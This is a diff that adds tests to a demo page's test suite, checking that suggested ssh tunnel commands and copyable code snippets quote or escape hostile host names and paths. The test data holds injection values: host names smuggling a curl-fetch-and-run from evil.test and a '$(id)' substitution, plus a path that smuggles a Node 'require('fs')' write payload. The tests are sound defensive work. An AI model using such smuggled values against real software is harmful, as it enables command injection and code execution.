@@ -12,6 +12,7 @@ import { buildSite, type BuiltSite } from '../support/site.js';
 import { integrityOf } from '../../scripts/bundle.mjs';
 import { launchChromium } from '../support/chromium.js';
 import { tunnelAdvice } from '../../demo/tunnel.js';
+import { snippetsFor } from '../../demo/snippets.js';
 import type { CarrierVerify } from '../../widget/carrier-verify.js';
 
 let site: BuiltSite;
@@ -432,8 +433,24 @@ describe('the tunnel the demo page advises when opened away from localhost', () 
     ['http://devbox.example/', 'ssh -L 8787:localhost:80 devbox.example', 'http://localhost:8787/'],
     // An IPv6 address, which ssh takes without its brackets.
     ['http://[2001:db8::1]:9000/', 'ssh -L 9000:localhost:9000 2001:db8::1', 'http://localhost:9000/'],
+    // A host name a link chose, which a browser takes and a shell would run: quoted, so that it names a host only.
+    ['http://a;{curl,-so,x,evil.test};{sh,x};.evil.test:8802/', "ssh -L 8802:localhost:8802 'a;{curl,-so,x,evil.test};{sh,x};.evil.test'", 'http://localhost:8802/'],
+    ["http://it's$(id).test:8802/", "ssh -L 8802:localhost:8802 'it'\\''s$(id).test'", 'http://localhost:8802/'],
   ])('for %s: %s, then %s', (page, command, url) => {
     expect(tunnelAdvice(new URL(page))).toEqual({ command, url });
+  });
+});
+
+describe('the code to copy on the demo page', () => {
+  it('writes the address of a proxy mounted under a path a link chose so that it ends no string, attribute or comment', () => {
+    // Mounted under a route parameter (`/:tenant/kyc`), the page's address is the link's.
+    const snippets = snippetsFor("http://localhost:8805/x'+require('fs').writeFileSync('PWNED','')+`${1}`\"-->/kyc/");
+    const address = 'http://localhost:8805/x%27%2Brequire%28%27fs%27%29.writeFileSync%28%27PWNED%27%2C%27%27%29%2B%60%24%7B1%7D%60%22--%3E/kyc/';
+    expect(snippets.backend).toContain(`fetch('${address}api/siteverify'`);
+    expect(snippets.html).toContain(`<script src="${address}carrier-verify.js"></script>`);
+    for (const code of Object.values(snippets)) expect(code).not.toContain('require(');
+    // An address as it usually is stays as it is.
+    expect(snippetsFor('http://[::1]:8787/kyc/').backend).toContain("fetch('http://[::1]:8787/kyc/api/siteverify'");
   });
 });
 
